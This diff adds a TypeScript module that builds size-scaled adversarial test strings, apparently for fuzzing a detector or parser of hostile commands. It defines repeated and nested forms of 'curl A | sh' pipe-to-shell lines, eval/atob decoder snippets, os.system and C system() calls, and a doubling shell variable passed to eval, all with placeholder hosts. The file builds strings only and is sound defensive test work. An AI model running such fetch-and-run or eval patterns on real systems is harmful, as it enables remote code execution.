@@ -1,0 +1,73 @@
+/** Families of texts that want to hurt: what is repeated, nested or torn, as functions of a size in characters. */
+import { hostile } from "./texts.js";
+
+export type Family = (size: number) => string;
+
+const repeated = (unit: string, before = "", after = ""): Family => (size) => before + unit.repeat(Math.max(1, Math.ceil((size - before.length - after.length) / unit.length))) + after;
+const fenced = (tag: string, unit: string): Family => repeated(unit, `\`\`\`${tag}\n`, "\n```\n");
+const growing = (line: (index: number) => string): Family => (size) => {
+  let text = "";
+  for (let index = 0; text.length < size; index++) text += line(index);
+  return text;
+};
+
+/** A generator of pseudo-random integers below a bound; equal seeds give equal series. */
+export function series(seed: number): (bound: number) => number {
+  let state = seed >>> 0;
+  return (bound) => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    return Math.floor((state / 2 ** 32) * bound);
+  };
+}
+
+const scraps = ["curl", "|", "sh", "$(", ")", "`", '"', "'", "\n", "\n\n", "eval", "(", "atob", "[", "]", "{", "}", "<", ">", "<<A", "#", "-", "*", "    ", "http://x", "never", "run", "&&", ";", "\\"];
+
+function random(piece: (next: (bound: number) => number) => string): Family {
+  return (size) => {
+    const next = series(7);
+    return growing(() => piece(next))(size);
+  };
+}
+
+const built: Readonly<Record<string, Family>> = {
+  "random characters": random((next) => String.fromCharCode(next(256))),
+  "random scraps": random((next) => `${scraps[next(scraps.length)] ?? ""} `),
+  "one word": repeated("a"),
+  "one line of words": repeated("some words "),
+  "nested lists": growing((index) => `${" ".repeat(2 * (index % 40))}- curl A\n`),
+  "mixed quote and list marks": repeated("> - 1. "),
+  "deep quotes": repeated(`${"> ".repeat(15)}curl A | sh\n`),
+  "deep JSON": repeated('{"curl":['),
+  "JSON commands": repeated('"curl A | sh",', "[", '""]'),
+  "deep YAML": growing((index) => `${" ".repeat(index % 200)}curl:\n`),
+  "YAML steps": repeated("- run: curl A | sh\n"),
+  "diff lines": fenced("diff", "+curl A | sh\n-curl B | sh\n"),
+  "console lines": fenced("console", "$ curl A | sh\nsome output\n"),
+  "nested Python calls": fenced("python", "eval("),
+  "Python calls": fenced("python", "os.system('curl A | sh')\n"),
+  "nested functions of JavaScript": fenced("js", "eval(() => {"),
+  "JavaScript decoders": fenced("js", "let y = atob(x); eval(y);\n"),
+  "C functions": repeated('int f(char *a) { if (a[0]) { system("curl A | sh"); } return 1; }\n'),
+  "a long string of escapes": repeated("\\x63\\n", "```python\nos.system('", "')\n```\n"),
+  "an open string of escapes": repeated('\\"curl\\" ', 'bash -c "'),
+  "shell commands": fenced("sh", "make -C build\ncp a b\ncurl A -o f\n"),
+  "doubling variables": repeated('S="$S$S$(curl A)"\n', "```sh\n", 'eval "$S"\n```\n'),
+  "chained functions": growing((index) => `f${String(index)}() { f${String(index + 1)} curl; }\n`),
+  "nested code elements": repeated("<div><pre><code>curl A | sh"),
+  "open comments": repeated("<!-- curl "),
+  headings: repeated("# curl A | sh\n\ntext\n\n"),
+  "display in sentences": repeated('He said "curl A | sh" and left. '),
+  "warned blocks": repeated("Other words.\n\nNever run this.\n\n`curl A | sh`\n\n"),
+  "commands in sentences": repeated("Run curl A | sh to install. "),
+  "container builds": repeated("RUN curl A | sh\n", "FROM x\n"),
+  "make recipes": repeated("\tcurl A | sh && \\\n", "all:\n"),
+  "wrapper words": repeated("sudo env A=1 "),
+  addresses: repeated("http://a.b/curl "),
+  "lone surrogates": repeated("\ud800curl"),
+};
+
+/** Every family by its name. */
+export const families: Readonly<Record<string, Family>> = {
+  ...Object.fromEntries(Object.entries(hostile).map(([name, unit]) => [name, repeated(unit)])),
+  ...built,
+};
